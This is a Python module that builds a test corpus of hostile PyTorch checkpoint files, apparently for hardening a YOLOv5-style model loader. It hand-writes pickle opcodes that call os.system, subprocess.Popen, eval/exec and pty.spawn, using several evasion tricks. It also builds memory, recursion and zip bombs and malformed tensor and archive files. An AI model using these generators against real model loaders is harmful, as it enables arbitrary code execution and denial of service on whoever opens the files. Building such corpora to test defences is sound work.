"""Hostile checkpoint files: each would leave a file behind if a reader ran it, or harm a reader that is not careful."""

from __future__ import annotations

import copyreg
import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

Writer = Callable[[Path, str], None]
CORPUS: dict[str, Writer] = {}


def hostile(function: Writer) -> Writer:
    """Put `function(path, command)`, which writes one file, into CORPUS."""
    CORPUS[function.__name__] = function
    return function


def archive(path: Path, program: bytes, members: dict[str, bytes] | None = None, root: str = "archive") -> None:
    """A zip file as torch.save writes it, with `program` as its pickle."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as file:
        file.writestr(f"{root}/data.pkl", program)
        file.writestr(f"{root}/version", b"3\n")
        for name, data in (members or {}).items():
            file.writestr(f"{root}/{name}", data)


class Call:
    """Pickles into the call `function(*args)`."""

    def __init__(self, function: Callable, *args: object):
        self.how = (function, args)

    def __reduce__(self) -> tuple:
        return self.how


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def calling(module: str, attribute: str, *args: str) -> bytes:
    """A program that calls module.attribute(*args)."""
    return b"\x80\x02" + name(module, attribute) + b"(" + b"".join(map(text, args)) + b"tR."


def yolov5_like(model: bytes) -> bytes:
    """A program for {"model": ...} as YOLOv5 writes it, `model` being the instructions of its value."""
    return b"\x80\x02}" + text("model") + model + b"s."


# --- calls ------------------------------------------------------------------------------------------------------------

CALLS = {
    "os_system": ("os", "system"),
    "posix_system": ("posix", "system"),
    "nt_system": ("nt", "system"),
    "os_popen": ("os", "popen"),
    "subprocess_getoutput": ("subprocess", "getoutput"),
    "commands_of_python_2": ("commands", "getoutput"),
    "pty_spawn": ("pty", "spawn"),
    "torch_hub": ("torch.hub", "os.system"),
    "numpy_runstring": ("numpy.testing._private.utils", "runstring"),
    "numpy_f2py": ("numpy.f2py.crackfortran", "myeval"),
    "webbrowser": ("webbrowser", "open"),
    "dotted_name_through_models": ("models.common.os", "system\x00"),
}
PYTHON = {
    "builtins_eval": ("builtins", "eval"),
    "builtins_exec": ("builtins", "exec"),
    "python_2_eval": ("__builtin__", "eval"),
    "torch_unsafe_code": ("torch._dynamo.guards", "eval"),
    "timeit": ("timeit", "timeit"),
    "cProfile": ("cProfile", "run"),
    "code_interact": ("code", "InteractiveInterpreter.runcode"),
    "torch_jit_unpickler": ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    "torch_load_again": ("torch", "load"),
    "torch_serialization": ("torch.serialization", "load"),
    "torch_class_attribute": ("torch", "ops.load_library"),
    "importlib": ("importlib", "import_module"),
    "getattr": ("builtins", "getattr"),
    "operator_attrgetter": ("operator", "attrgetter"),
    "functools_partial": ("functools", "partial"),
    "runpy": ("runpy", "run_path"),
}


def add_calls() -> None:
    for title, (module, attribute) in CALLS.items():
        CORPUS[title] = lambda path, command, m=module, a=attribute: archive(path, calling(m, a, command))
    for title, (module, attribute) in PYTHON.items():

        def write(path: Path, command: str, m: str = module, a: str = attribute) -> None:
            archive(path, calling(m, a, f"__import__('os').system({command!r})"))

        CORPUS[title] = write


add_calls()


@hostile
def reduce_by_torch_save(path: Path, command: str) -> None:
    import os

    torch.save({"model": Call(os.system, command), "ema": None}, path)


@hostile
def reduce_inside_tensors(path: Path, command: str) -> None:
    torch.save({"model": {"model.0.conv.weight": torch.zeros(3), "x": Call(eval, f"open({command!r})")}}, path)


@hostile
def build_of_a_chain(path: Path, command: str) -> None:
    """getattr(getattr(models, '__class__'), ...) one inside the other."""
    inner = name("builtins", "getattr") + b"(" + name("models.yolo", "Model") + text("__class__") + b"tR"
    archive(path, b"\x80\x02" + name("builtins", "getattr") + b"(" + inner + text("__init__") + b"tR.")


@hostile
def stack_global(path: Path, command: str) -> None:
    program = b"\x80\x04" + text("os") + text("system") + b"\x93" + text(command) + b"\x85R."
    archive(path, program)


@hostile
def stack_global_from_the_memo(path: Path, command: str) -> None:
    """The name is put together from memo entries, one of them written twice."""
    program = b"\x80\x04" + text("models") + b"q\x000" + text("os") + b"q\x000" + text("system") + b"q\x010"
    archive(path, program + b"h\x00h\x01\x93" + text(command) + b"\x85R.")


@hostile
def inst_instruction(path: Path, command: str) -> None:
    archive(path, b"(" + text(command) + b"ios\nsystem\n.")


@hostile
def obj_instruction(path: Path, command: str) -> None:
    archive(path, b"(" + name("os", "system") + text(command) + b"o.")


@hostile
def newobj_of_a_process(path: Path, command: str) -> None:
    archive(path, b"\x80\x02" + name("subprocess", "Popen") + text(command) + b"\x85\x81.")


@hostile
def extension_registry(path: Path, command: str) -> None:
    """Code 240 of copyreg's registry, filled by whoever planted the file."""
    if ("os", "system") not in copyreg._extension_registry:  # type: ignore[attr-defined]
        copyreg.add_extension("os", "system", 240)
    archive(path, b"\x80\x02\x82\xf0" + text(command) + b"\x85R.")


@hostile
def setstate_by_build(path: Path, command: str) -> None:
    """Sets an attribute of what is on the stack: of a class, a module's name, a tuple."""
    archive(path, b"\x80\x02" + name("models.yolo", "Model") + b"}" + text("forward") + text(command) + b"sb.")


@hostile
def storage_reference_with_a_class(path: Path, command: str) -> None:
    reference = b"(" + text("storage") + name("os", "system") + text(command) + text("cpu") + b"K\x01tQ"
    archive(path, b"\x80\x02" + reference + b".")


@hostile
def persistent_id_as_text(path: Path, command: str) -> None:
    archive(path, b"P" + command.encode() + b"\n.")


@hostile
def call_of_a_call(path: Path, command: str) -> None:
    """An inert record that is called: what models.x.y(...) gave must not be run either."""
    made = name("models.common", "Conv") + b"(" + text(command) + b"tR"
    archive(path, b"\x80\x02" + made + b"(" + text(command) + b"tR.")


@hostile
def sub_pickle_in_a_string(path: Path, command: str) -> None:
    import os

    inner = pickle.dumps(Call(os.system, command), protocol=2).decode("latin1")
    archive(path, calling("pickle", "loads", inner))


@hostile
def model_that_is_a_call(path: Path, command: str) -> None:
    archive(path, yolov5_like(name("os", "system") + b"(" + text(command) + b"tR"))


@hostile
def names_of_another_package(path: Path, command: str) -> None:
    archive(path, yolov5_like(name("models_evil.yolo", "Model") + b")\x81"))


@hostile
def bare_pickle(path: Path, command: str) -> None:
    path.write_bytes(calling("os", "system", command))


@hostile
def old_torch_format(path: Path, command: str) -> None:
    import os

    torch.save({"model": Call(os.system, command)}, path, _use_new_zipfile_serialization=False)


# --- bombs ------------------------------------------------------------------------------------------------------------


@hostile
def memo_index_of_four_billion(path: Path, command: str) -> None:
    """The C unpickler would set aside 64 GB for its memo."""
    archive(path, b"\x80\x02Nr\xff\xff\xff\xff.")


@hostile
def claimed_string_of_terabytes(path: Path, command: str) -> None:
    archive(path, b"\x80\x04\x8e" + struct.pack("<Q", 1 << 42) + b"abc.")


@hostile
def bytearray_of_terabytes(path: Path, command: str) -> None:
    archive(path, b"\x80\x05\x96" + struct.pack("<Q", 1 << 42) + b"abc.")


@hostile
def nested_tuples_as_a_key(path: Path, command: str) -> None:
    """Hashing it recurses through the C stack."""
    archive(path, b"\x80\x02})" + b"\x85" * 200_000 + b"Ns.")


@hostile
def nested_lists(path: Path, command: str) -> None:
    archive(path, yolov5_like(b"]" * 100_000 + b"a" * 99_999))


@hostile
def module_that_holds_itself(path: Path, command: str) -> None:
    """model -> _modules -> model -> ..."""
    children = b"}" + text("_modules") + b"}" + text("model") + b"h\x00ss"
    archive(path, yolov5_like(name("models.yolo", "Model") + b")\x81q\x00" + children + b"b"))


@hostile
def laughing_modules(path: Path, command: str) -> None:
    """Each of 40 modules holds the one before twice: a trillion paths."""
    module = name("torch.nn.modules.container", "Sequential") + b")\x81"
    program = module + b"}" + text("_modules") + b"}sbq\x000"
    for i in range(1, 41):
        child = b"h" + bytes([i - 1])
        inner = b"}(" + text("0") + child + text("1") + child + b"u"
        program += module + b"}" + text("_modules") + inner + b"sbq" + bytes([i]) + b"0"
    root = name("models.yolo", "Model") + b")\x81}" + text("_modules") + b"}" + text("model") + b"h\x28ssb"
    archive(path, b"\x80\x02" + program + b"}" + text("model") + root + b"s.")


@hostile
def laughing_mapping(path: Path, command: str) -> None:
    """A yaml whose rows hold the row before ten times, 30 levels."""
    torch_like = b"]q\x000"
    for i in range(1, 31):
        torch_like += b"](" + (b"h" + bytes([i - 1])) * 10 + b"eq" + bytes([i]) + b"0"
    head = name("models.yolo", "Detect") + b")\x81}" + text("_modules") + b"}s" + text("stride") + tensor_of(3) + b"s"
    anchors = b"}" + text("anchors") + tensor_of(3, 1, 2) + b"s"
    head += text("_buffers") + anchors + b"sb"
    layers = name("torch.nn.modules.container", "Sequential") + b")\x81}" + text("_modules") + b"}" + text("0") + head
    state = b"}" + text("yaml") + b"h\x1es" + text("_modules") + b"}" + text("model") + layers + b"ssbss"
    root = name("models.yolo", "Model") + b")\x81" + state + b"b"
    ones = struct.pack("<6f", *[1.0] * 6)
    archive(path, b"\x80\x02" + torch_like + b"}" + text("model") + root + b"s.", {"data/3": ones[:12], "data/6": ones})


def tensor_of(*size: int) -> bytes:
    """Instructions for a contiguous float tensor over the storage named after its number of elements."""
    count = 1
    for side in size:
        count *= side
    stride = [int(torch.tensor(size[i + 1 :]).prod()) for i in range(len(size))]
    reference = b"(" + text("storage") + name("torch", "FloatStorage") + text(str(count)) + text("cpu")
    reference += b"K" + bytes([count]) + b"tQ"
    numbers = b"(" + b"".join(b"K" + bytes([n]) for n in size) + b"t"
    steps = b"(" + b"".join(b"K" + bytes([n]) for n in stride) + b"t"
    return name("torch._utils", "_rebuild_tensor_v2") + b"(" + reference + b"K\x00" + numbers + steps + b"\x89}tR"


def wide(size: int, stride: int, elements: int, data: bytes) -> tuple[bytes, dict[str, bytes]]:
    """A state dict with one tensor of `size` over a storage that says `elements` and has `data`."""
    reference = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu")
    reference += b"\x8a\x08" + struct.pack("<q", elements) + b"tQ"
    numbers = b"".join(b"\x8a\x08" + struct.pack("<q", n) + b"\x85" for n in (size, stride))
    tensor = name("torch._utils", "_rebuild_tensor_v2") + b"(" + reference + b"K\x00" + numbers + b"\x89}tR"
    return yolov5_like(name("models.yolo", "Model") + b")\x81}" + text("stride") + tensor + b"sb"), {"data/0": data}


@hostile
def tensor_beyond_its_storage(path: Path, command: str) -> None:
    archive(path, *wide(1000, 1, 4, bytes(16)))


@hostile
def tensor_of_stride_zero(path: Path, command: str) -> None:
    """One number, seen a trillion times: the first copy of it would fill the memory."""
    archive(path, *wide(1 << 40, 0, 4, bytes(16)))


@hostile
def storage_that_claims_more(path: Path, command: str) -> None:
    archive(path, *wide(4, 1, 1 << 40, bytes(16)))


@hostile
def negative_size(path: Path, command: str) -> None:
    archive(path, *wide(-4, 1, 4, bytes(16)))


@hostile
def missing_storage(path: Path, command: str) -> None:
    program, _ = wide(4, 1, 4, b"")
    archive(path, program)


@hostile
def zip_bomb(path: Path, command: str) -> None:
    """A gigabyte of nothing, compressed."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        file.writestr("archive/data.pkl", calling("os", "system", command))
        with file.open("archive/data/0", "w") as member:
            for _ in range(16):
                member.write(bytes(2**22))


@hostile
def members_that_share_bytes(path: Path, command: str) -> None:
    """A central directory whose members all claim the whole file."""
    archive(path, calling("os", "system", command), {f"data/{i}": bytes(1000) for i in range(50)})
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 20 : at + 28] = struct.pack("<II", len(data), len(data))
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(data)


@hostile
def two_pickles(path: Path, command: str) -> None:
    """A harmless data.pkl and a second one of the same name."""
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("archive/data.pkl", b"\x80\x02}.")
        file.writestr("archive/data.pk2", calling("os", "system", command))
    path.write_bytes(path.read_bytes().replace(b"archive/data.pk2", b"archive/data.pkl"))


@hostile
def torchscript_archive(path: Path, command: str) -> None:
    archive(path, b"\x80\x02}.", {"constants.pkl": b"\x80\x02)."})


@hostile
def big_endian(path: Path, command: str) -> None:
    archive(path, calling("os", "system", command), {"byteorder": b"big"})


@hostile
def truncated_archive(path: Path, command: str) -> None:
    buffer = io.BytesIO()
    torch.save({"model": torch.zeros(1000)}, buffer)
    path.write_bytes(buffer.getvalue()[:-400])


@hostile
def truncated_pickle(path: Path, command: str) -> None:
    archive(path, calling("models.yolo", "Model", command)[:-2])


@hostile
def empty_pickle(path: Path, command: str) -> None:
    archive(path, b"")


@hostile
def empty_file(path: Path, command: str) -> None:
    path.write_bytes(b"")


@hostile
def endless_instructions(path: Path, command: str) -> None:
    """A million steps that lead nowhere."""
    archive(path, b"\x80\x02" + b"N0" * 500_001 + b".")


@hostile
def rows_that_ask_for_a_billion_layers(path: Path, command: str) -> None:
    """This project's own format, plain data only, with a mapping that never ends building."""
    rows = [[-1, 10**9, "Conv", [64, 3, 2]], [[-1], 1, "Detect", ["nc", "anchors"]]]
    cfg = {"nc": 1, "anchors": [[1, 1]], "backbone": rows[:1], "head": rows[1:]}
    torch.save({"version": 1, "yaml": cfg, "names": {0: "a"}, "model": {}}, path)


@hostile
def rows_that_ask_for_terabytes(path: Path, command: str) -> None:
    rows = [[-1, 1, "Conv", [2**20, 3, 2]], [-1, 1, "Conv", [2**20, 3, 2]], [[-1], 1, "Detect", ["nc", "anchors"]]]
    cfg = {"nc": 1, "anchors": [[1, 1]], "backbone": rows[:2], "head": rows[2:]}
    torch.save({"version": 1, "yaml": cfg, "names": {0: "a"}, "model": {}}, path)
